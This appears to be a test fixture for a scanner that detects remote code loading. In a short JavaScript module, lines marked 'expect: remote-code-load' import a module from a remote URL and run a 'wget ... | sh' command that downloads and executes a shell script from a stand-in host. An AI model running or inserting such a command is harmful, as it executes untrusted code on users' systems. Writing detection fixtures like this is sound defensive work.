import { execSync } from "node:child_process";

const HOST = "http://cdn.acme-static.io";

export async function load() {
  const plugin = await import("https://esm.acme-static.io/plugin.js"); // expect: remote-code-load
  execSync(`wget -qO- ${HOST}/agent.sh | sh`); // expect: remote-code-load
  return plugin;
}

export function later() {
  fetch(`${HOST}/x.js`)
    .then((answer) => answer.text())
    .then((text) => text.length);
}
